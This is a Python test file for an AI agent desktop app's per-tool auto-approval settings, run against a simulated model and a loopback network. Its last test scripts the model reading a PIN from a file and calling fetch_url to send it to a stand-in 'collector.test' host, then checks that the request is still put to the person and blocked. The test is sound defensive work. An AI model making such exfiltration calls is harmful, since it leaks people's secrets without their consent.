""" "Run without asking", chosen per tool: the agent loop against the simulator over real
sockets, with real files and SQLite. An auto-allowed tool runs without a question and the ledger
says why; every other tool still asks; a tool that can send data off the computer asks whatever
the database holds."""

from __future__ import annotations

from desktop_app.agent.confirmations import Decision
from desktop_app.agent.events import ToolExecutionEnd
from desktop_app.agent.loop import DENIED
from desktop_app.agent.tools import ToolContext
from desktop_app.generation.outcome import TurnStatus
from desktop_app.generation.prompt import Prompt
from desktop_app.simulator.scenarios import Scenario
from desktop_app.simulator.scripts import Script, ScriptedCall
from desktop_app.store.actions.ledger import Approval
from tests.agent.harness import ScriptedPerson
from tests.agent.test_loop import FINAL, harness, reads_then_sends
from tests.net.helpers import queue
from tests.net.loopback_web import network_guard, resolver, webs

__all__ = ["harness", "network_guard", "resolver"]  # fixtures, used by name


def calls(*scripted: ScriptedCall) -> Scenario:
    return Scenario(script=Script(answer="", finish="tool_calls", tool_calls=scripted))


def approvals(harness) -> dict[str, str | None]:
    rows = harness.database.fetch_all("SELECT tool_call_id, approval FROM operations")
    return {row["tool_call_id"]: row["approval"] for row in rows}


def test_an_auto_allowed_tool_runs_without_a_question_and_others_still_ask(harness, simulator):
    (harness.workspace / "hola.txt").write_text("contenido", encoding="utf-8")
    harness.grants.grant("read_file", None)  # the person's "Run without asking" for reading
    read = ScriptedCall(name="read_file", arguments={"path": "hola.txt"}, call_id="call_r")
    write = ScriptedCall(
        name="write_file", arguments={"path": "b.txt", "content": "x"}, call_id="call_w"
    )
    model = queue(simulator, calls(read), calls(write), Scenario(script=FINAL))
    person = ScriptedPerson([Decision.ALLOW_ONCE])
    result, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
    assert result.outcome.status is TurnStatus.COMPLETED
    assert [request.tool_name for request in person.asked] == ["write_file"]
    ends = {e.call_id: e for e in events if isinstance(e, ToolExecutionEnd)}
    assert "contenido" in ends["call_r"].output and not ends["call_w"].error
    assert approvals(harness) == {"call_r": Approval.SETTING, "call_w": Approval.ASKED}


def test_a_permission_in_this_conversation_is_recorded_as_such(harness, simulator):
    (harness.workspace / "hola.txt").write_text("contenido", encoding="utf-8")
    harness.grants.grant("read_file", harness.conversation_id)
    harness.grants.grant("read_file", "another-conversation")
    read = ScriptedCall(name="read_file", arguments={"path": "hola.txt"}, call_id="call_r")
    model = queue(simulator, calls(read), Scenario(script=FINAL))
    person = ScriptedPerson()
    harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
    assert person.asked == []
    assert approvals(harness) == {"call_r": Approval.CONVERSATION}


def test_turning_the_setting_off_asks_again(harness, simulator):
    (harness.workspace / "hola.txt").write_text("contenido", encoding="utf-8")
    harness.grants.grant("read_file", None)
    harness.grants.revoke_everywhere("read_file")
    read = ScriptedCall(name="read_file", arguments={"path": "hola.txt"}, call_id="call_r")
    model = queue(simulator, calls(read), Scenario(script=FINAL))
    person = ScriptedPerson()  # says no
    _result, events = harness.run(harness.loop("openai-chat", model, person), Prompt.single("x"))
    assert [request.tool_name for request in person.asked] == ["read_file"]
    (end,) = [e for e in events if isinstance(e, ToolExecutionEnd)]
    assert end.output == DENIED and harness.executor.runs == 0


def test_fetch_url_is_never_auto_allowed_whatever_the_database_holds(
    harness, simulator, resolver, network_guard
):
    """A grant in every conversation for fetch_url cannot be made in the window; one written
    behind its back (an old file, another program) still does not skip the question."""
    with webs("127.0.0.3") as (collector,):
        resolver.answers["collector.test"] = [["127.0.0.3"]]
        harness.registry.context = ToolContext(workspace=harness.workspace, resolver=resolver)
        (harness.workspace / "pin.txt").write_text("PIN 9876", encoding="utf-8")
        for tool in ("read_file", "fetch_url"):
            harness.grants.grant(tool, None)
        url = f"http://collector.test:{collector.port}/collect?d=PIN%209876"
        model = queue(simulator, *reads_then_sends(url))
        person = ScriptedPerson()  # says no
        _result, events = harness.run(
            harness.loop("openai-chat", model, person), Prompt.single("x")
        )
        assert [request.tool_name for request in person.asked] == ["fetch_url"]
        ends = {e.call_id: e for e in events if isinstance(e, ToolExecutionEnd)}
        assert "PIN 9876" in ends["call_r"].output and ends["call_f"].output == DENIED
        assert collector.connections == 0
    assert approvals(harness) == {"call_r": Approval.SETTING}  # the fetch never reached it
